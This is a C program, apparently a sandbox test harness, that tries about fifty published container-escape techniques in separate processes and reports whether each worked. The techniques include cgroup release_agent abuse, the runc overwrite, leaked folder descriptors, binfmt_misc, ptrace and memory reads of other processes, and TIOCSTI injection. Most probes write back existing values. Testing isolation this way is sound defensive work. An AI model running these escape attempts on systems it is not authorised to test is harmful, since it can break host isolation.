// Tries published ways out of containers, each in a process of its own, and prints a line for each.
//
//	tricks VICTIM FOLDER SECRET
//
// VICTIM is a process to look into, FOLDER one to work in, SECRET a file of the host. With CONTROL in
// the environment it is the control: root of the host, in namespaces that end with it, and a trick
// that would change the machine writes what is there already, or into a copy.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <glob.h>
#include <linux/perf_event.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

static int victim, control;
static const char *folder, *secret;
static char buf[65536];

static char *in_folder(const char *name) {
	static char path[8][512];
	static int next;
	char *p = path[next++ % 8];
	snprintf(p, 512, "%s/%s", folder, name);
	return p;
}

static long write_to(const char *path, const char *text, size_t n) {
	int f = open(path, O_WRONLY);
	if (f < 0) return -1;
	long r = write(f, text, n);
	int e = errno;
	close(f);
	errno = e;
	return r < 0 ? -1 : 0;
}

// keep writes to a setting what it says already.
static long keep(const char *path) {
	int f = open(path, O_WRONLY);
	if (f < 0) return -1;
	close(f);
	f = open(path, O_RDONLY);
	long n = f < 0 ? 0 : read(f, buf, 4096);
	close(f);
	return write_to(path, buf, n > 0 ? n : 0);
}

static long opens(const char *path, int flags) { return open(path, flags | O_NONBLOCK | O_NOCTTY) < 0 ? -1 : 0; }

static long says(const char *path) {
	int f = open(path, O_RDONLY | O_NONBLOCK);
	if (f < 0) return -1;
	errno = ENODATA;
	return read(f, buf, 4) > 0 ? 0 : -1;
}

// A hierarchy of cgroup v1 whose release_agent the kernel runs as root of the host.
static long release_agent(void) {
	char *at = in_folder("cg"), *child = in_folder("cg/x");
	mkdir(at, 0700);
	if (mount("none", at, "cgroup", 0, "none,name=choirattack") < 0) return -1;
	long r = -1;
	if (mkdir(child, 0700) == 0 || errno == EEXIST) {
		r = write_to(in_folder("cg/release_agent"), in_folder("agent"), strlen(in_folder("agent")));
		if (r == 0) r = write_to(in_folder("cg/x/notify_on_release"), "1", 1);
		if (r == 0 && !fork()) _exit(write_to(in_folder("cg/x/cgroup.procs"), "0", 1) < 0);
		while (wait(0) > 0) {}
		for (int i = 0; i < 300 && r == 0 && control && access(in_folder("agent-ran"), F_OK); i++) usleep(10000);
	}
	int e = errno;
	rmdir(child);
	umount2(at, MNT_DETACH);
	errno = e;
	return r;
}

static long found_release_agent(void) {
	glob_t g;
	errno = ENOENT;
	glob("/sys/fs/cgroup/release_agent", 0, 0, &g);
	glob("/sys/fs/cgroup/*/release_agent", GLOB_APPEND, 0, &g);
	for (size_t i = 0; i < g.gl_pathc; i++)
		if (opens(g.gl_pathv[i], O_WRONLY) == 0) return 0;
	return -1;
}

// The same from a user namespace (CVE-2022-0492).
static long release_agent_of_a_user(void) {
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0) return -1;
	return release_agent();
}

static long core_pattern(void) { return keep("/proc/sys/kernel/core_pattern"); }
static long modprobe(void) { return keep("/proc/sys/kernel/modprobe"); }
static long uevent_helper(void) { return keep("/sys/kernel/uevent_helper"); }
static long swappiness(void) { return keep("/proc/sys/vm/swappiness"); }

// A kind of program whose interpreter is of the guest's choice.
static long binfmt_misc(void) {
	static const char entry[] = ":choirattack:M::choir-attack-magic::/bin/true:";
	char *at = in_folder("binfmt"), *reg = in_folder("binfmt/register"), *program = in_folder("program");
	mkdir(at, 0700);
	if (mount("none", at, "binfmt_misc", 0, "") < 0) return -1;
	long r = write_to(reg, entry, strlen(entry));
	if (r == 0) {
		int f = open(program, O_CREAT | O_WRONLY, 0700), status = 1;
		dprintf(f, "choir-attack-magic\n");
		close(f);
		if (!fork()) { execl(program, program, NULL); _exit(1); }
		wait(&status);
		if (status) { errno = ENOEXEC; r = -1; }
		write_to(in_folder("binfmt/choirattack"), "-1", 2);
	}
	umount2(at, MNT_DETACH);
	return r;
}

// The program of a process, opened to be written to, as runc's was (CVE-2019-5736). One that cannot be
// written to because it runs can be a moment later.
static long running_program(void) {
	struct stat own, found;
	stat("/proc/self/exe", &own);
	glob_t g;
	errno = ENOENT;
	glob("/proc/[0-9]*/exe", 0, 0, &g);
	glob("/opt/choir/*", GLOB_APPEND, 0, &g);
	for (size_t i = 0; i < g.gl_pathc; i++) {
		int held = open(g.gl_pathv[i], O_PATH);
		if (held < 0 || fstat(held, &found) < 0 || found.st_ino == own.st_ino) continue;
		sprintf(buf, "/proc/self/fd/%d", held);
		int f = open(buf, O_WRONLY);
		if (f >= 0 || errno == ETXTBSY) return 0;
	}
	return -1;
}

// A way up from a folder that somebody left open (CVE-2024-21626).
static long leaked_folder(void) {
	char path[600];
	snprintf(path, sizeof path, "../../../../../../../../../..%s", secret);
	if (control && (chroot(folder) < 0 || chdir("/") < 0)) return -1;
	errno = ENOENT;
	for (int n = 0; n < 1024; n++)
		if (fchdir(n) == 0 && access(path, F_OK) == 0) return 0;
	glob_t g;
	if (glob("/proc/[0-9]*/fd/*", 0, 0, &g)) return -1;
	glob("/proc/[0-9]*/cwd", GLOB_APPEND, 0, &g);
	glob("/proc/[0-9]*/root", GLOB_APPEND, 0, &g);
	for (size_t i = 0; i < g.gl_pathc; i++)
		if (chdir(g.gl_pathv[i]) == 0 && access(path, F_OK) == 0) return 0;
	return -1;
}

// Another file in the place of /dev/null, which a runtime puts over what it hides (CVE-2025-31133).
static long replaced_null(void) {
	char dev[512] = "/dev", null[600], other[600];
	if (control) {
		strcpy(dev, in_folder("dev"));
		mkdir(dev, 0755);
		if (mount("tmpfs", dev, "tmpfs", 0, "") < 0) return -1;
	}
	sprintf(null, "%s/null", dev);
	sprintf(other, "%s/other", dev);
	if (control) mknod(null, S_IFCHR | 0666, makedev(1, 3));
	struct stat s;
	if (stat(null, &s) == 0 && s.st_rdev != makedev(1, 3)) return 0;
	if (rename(null, other) < 0 && unlink(null) < 0) return -1;
	return symlink("/proc/sys/kernel/core_pattern", null);
}

static long mounted(const char *kind, const char *at) {
	if (mount("none", at, kind, 0, "") < 0) return -1;
	umount2(at, MNT_DETACH);
	return 0;
}

// What the kernel's settings seem to be is a file of the guest's (CVE-2025-52881).
static long covered_proc(void) { return mounted("tmpfs", "/proc/sys"); }
static long debugfs(void) { return mounted("debugfs", folder); }
static long securityfs(void) { return mounted("securityfs", folder); }
static long sysfs(void) { return mounted("sysfs", folder); }
static long overlay(void) {
	char options[1600];
	mkdir(in_folder("l"), 0700), mkdir(in_folder("u"), 0700), mkdir(in_folder("w"), 0700), mkdir(in_folder("m"), 0700);
	sprintf(options, "lowerdir=%s,upperdir=%s,workdir=%s", in_folder("l"), in_folder("u"), in_folder("w"));
	if (mount("overlay", in_folder("m"), "overlay", 0, options) < 0) return -1;
	umount2(in_folder("m"), MNT_DETACH);
	return 0;
}

static long console(void) {
	struct stat s;
	errno = ENOENT;
	if (stat("/dev/console", &s) < 0) return -1;
	errno = ENXIO;
	return s.st_rdev == makedev(5, 1) ? opens("/dev/console", O_WRONLY) : -1;
}
static long fuse(void) { return opens("/dev/fuse", O_RDWR); }
static long kvm(void) { return opens("/dev/kvm", O_RDWR); }
static long memory_device(void) { return opens("/dev/mem", O_RDONLY); }
static long kernel_log(void) { return opens("/dev/kmsg", O_RDONLY); }
static long kernel_log_of_proc(void) { return opens("/proc/kmsg", O_RDONLY); }
static long sysrq(void) { return opens("/proc/sysrq-trigger", O_WRONLY); }
static long kcore(void) { return says("/proc/kcore"); }
static long addresses(void) {
	unsigned long at = 0;
	FILE *f = fopen("/proc/kallsyms", "r");
	if (!f) return -1;
	errno = ENODATA;
	for (int i = 0; i < 100 && !at; i++) fscanf(f, "%lx %*[^\n]", &at);
	return at ? 0 : -1;
}
static long sys_kernel(void) { return opens("/sys/kernel/notes", O_RDONLY); }

// A terminal of one's own, so that only the kernel or the filter can refuse.
static int own_terminal(void) {
	int master = posix_openpt(O_RDWR | O_NOCTTY);
	grantpt(master), unlockpt(master), setsid();
	return open(ptsname(master), O_RDWR);
}
static long tiocsti(void) { return ioctl(own_terminal(), TIOCSTI, "x"); }
static long tiocsti_high(void) { return syscall(SYS_ioctl, own_terminal(), 0x100000000UL | TIOCSTI, "x"); }
static long tioclinux(void) {
	char shift_state = 6;
	int f = open("/dev/tty0", O_RDWR | O_NOCTTY);
	return ioctl(f < 0 ? own_terminal() : f, 0x541c, &shift_state) < 0 ? -1 : 0;
}

static long keys(void) { return syscall(SYS_add_key, "user", "choir-attack", "x", 1, -2); }
static long keyctl(void) { return syscall(SYS_keyctl, 0, -3, 1); }
static long userfaultfd(void) { return syscall(SYS_userfaultfd, O_CLOEXEC); }
static long io_uring(void) { memset(buf, 0, 256); return syscall(SYS_io_uring_setup, 4, buf); }
static long bpf(void) {
	int map[4] = {2, 4, 4, 1}; // an array of one value
	memset(buf, 0, 256), memcpy(buf, map, sizeof map);
	return syscall(SYS_bpf, 0, buf, 72);
}
static long perf(void) {
	struct perf_event_attr a = {.type = PERF_TYPE_SOFTWARE, .size = sizeof a, .config = PERF_COUNT_SW_TASK_CLOCK};
	return syscall(SYS_perf_event_open, &a, 0, -1, -1, 0);
}

static long attach(int pid) { return ptrace(PTRACE_ATTACH, pid, 0, 0) < 0 ? -1 : (waitpid(pid, 0, __WALL), ptrace(PTRACE_DETACH, pid, 0, 0), 0); }
static long attach_init(void) { return attach(1); }
static long attach_victim(void) { return attach(victim); }
static long memory_of(int pid, int by_call) {
	unsigned long from = 0x400000;
	sprintf(buf, "/proc/%d/maps", pid);
	FILE *f = fopen(buf, "r");
	if (f) fscanf(f, "%lx", &from);
	struct iovec local = {buf, 8}, remote = {(void *)from, 8};
	if (by_call) return syscall(SYS_process_vm_readv, pid, &local, 1, &remote, 1, 0) == 8 ? 0 : -1;
	sprintf(buf, "/proc/%d/mem", pid);
	int m = open(buf, O_RDWR);
	return m >= 0 && pread(m, buf, 8, from) == 8 ? 0 : -1;
}
static long read_init(void) { return memory_of(1, 1); }
static long read_victim(void) { return memory_of(victim, 1); }
static long mem_of_victim(void) { return memory_of(victim, 0); }
static long descriptor_of_victim(void) { return syscall(SYS_pidfd_getfd, syscall(SYS_pidfd_open, victim, 0), 0, 0); }
static long namespace_of_init(void) { return setns(open("/proc/1/ns/mnt", O_RDONLY), CLONE_NEWNS); }

static long user_namespace(void) { return unshare(CLONE_NEWUSER); }
static long clone3_user(void) {
	unsigned long args[11] = {CLONE_NEWUSER, 0, 0, 0, SIGCHLD};
	long pid = syscall(SYS_clone3, args, sizeof args);
	if (pid == 0) _exit(0);
	return pid;
}

// The folder at the top of a file system by its number (shocker, 2014).
static long by_handle(void) {
	struct { struct file_handle h; unsigned id[2]; } top = {{8, 1}, {2, 0}};
	return syscall(SYS_open_by_handle_at, open(folder, O_RDONLY), &top, O_RDONLY);
}

static long node(int kind, int major, int minor) {
	char *at = in_folder("node");
	unlink(at);
	if (mknod(at, kind | 0600, makedev(major, minor)) < 0) return -1;
	return opens(at, O_RDONLY);
}
static long memory_node(void) { return node(S_IFCHR, 1, 1); }
static long null_node(void) { return node(S_IFCHR, 1, 3); }
static long disk_node(void) { // of the disk that a folder is on: in a sandbox it is the host's
	struct stat s;
	stat(control ? "/" : "/usr", &s);
	return node(S_IFBLK, major(s.st_dev), minor(s.st_dev));
}

static long linked(const char *path) {
	char *at = in_folder("link");
	unlink(at);
	if (link(path, at) == 0) return 0;
	return linkat(open(path, O_PATH), "", AT_FDCWD, at, AT_EMPTY_PATH);
}
static long link_to_etc(void) { return linked("/etc/passwd"); }
static long link_to_usr(void) { return linked("/usr/bin/env"); }

#ifdef __x86_64__
static long foreign_call(void) { // getpid of 32-bit programs
	long r;
	__asm__ volatile("int $0x80" : "=a"(r) : "0"(20L) : "memory", "r8", "r9", "r10", "r11");
	errno = ENOSYS;
	return r == getpid() ? 0 : -1;
}
static long x32_call(void) { return syscall(0x40000000 | 39); }
#endif

static const struct { const char *name; long (*act)(void); } tricks[] = {
	{"a release_agent in a new hierarchy of cgroups", release_agent},
	{"a release_agent that is there", found_release_agent},
	{"a release_agent in a user namespace (CVE-2022-0492)", release_agent_of_a_user},
	{"core_pattern", core_pattern},
	{"the kernel's modprobe", modprobe},
	{"uevent_helper", uevent_helper},
	{"a setting of the kernel", swappiness},
	{"an interpreter by binfmt_misc", binfmt_misc},
	{"a running program, written to (CVE-2019-5736)", running_program},
	{"a folder that was left open (CVE-2024-21626)", leaked_folder},
	{"another /dev/null (CVE-2025-31133)", replaced_null},
	{"the console (CVE-2025-52565)", console},
	{"a mount over /proc (CVE-2025-52881)", covered_proc},
	{"debugfs", debugfs},
	{"securityfs", securityfs},
	{"sysfs", sysfs},
	{"an overlay (CVE-2023-0386)", overlay},
	{"/dev/fuse", fuse},
	{"/dev/kvm", kvm},
	{"/dev/mem", memory_device},
	{"the kernel's log", kernel_log},
	{"the kernel's log in /proc", kernel_log_of_proc},
	{"sysrq-trigger", sysrq},
	{"/proc/kcore", kcore},
	{"the kernel's addresses", addresses},
	{"/sys/kernel", sys_kernel},
	{"TIOCSTI (CVE-2017-5226)", tiocsti},
	{"TIOCSTI with high bits (CVE-2019-10063)", tiocsti_high},
	{"TIOCLINUX (CVE-2023-28100)", tioclinux},
	{"add_key", keys},
	{"keyctl", keyctl},
	{"userfaultfd", userfaultfd},
	{"io_uring", io_uring},
	{"bpf", bpf},
	{"perf_event_open", perf},
	{"ptrace of the first process", attach_init},
	{"ptrace of another process", attach_victim},
	{"process_vm_readv of the first process", read_init},
	{"process_vm_readv of another process", read_victim},
	{"the memory of another process", mem_of_victim},
	{"a descriptor of another process", descriptor_of_victim},
	{"the mounts of the first process", namespace_of_init},
	{"a user namespace", user_namespace},
	{"a user namespace by clone3", clone3_user},
	{"open_by_handle_at (shocker)", by_handle},
	{"a device node of memory", memory_node},
	{"a device node of a disk", disk_node},
	{"a device node of nothing", null_node},
	{"a hard link to /etc", link_to_etc},
	{"a hard link to /usr", link_to_usr},
#ifdef __x86_64__
	{"a system call of 32-bit programs", foreign_call},
	{"a system call of x32 programs", x32_call},
#endif
};

int main(int argc, char **argv) {
	victim = atoi(argv[1]), folder = argv[2], secret = argv[3], control = getenv("CONTROL") != 0;
	setbuf(stdout, 0);
	for (size_t i = 0; i < sizeof tricks / sizeof *tricks; i++) {
		pid_t pid = fork();
		if (pid == 0) {
			alarm(20);
			errno = 0;
			if (tricks[i].act() >= 0) _exit(0);
			_exit(errno ? errno : 255);
		}
		int status;
		waitpid(pid, &status, 0);
		printf("%s|%s\n", tricks[i].name, status == 0 ? "WORKED" : WIFSIGNALED(status) ? strsignal(WTERMSIG(status)) : strerror(WEXITSTATUS(status)));
	}
	return 0;
}
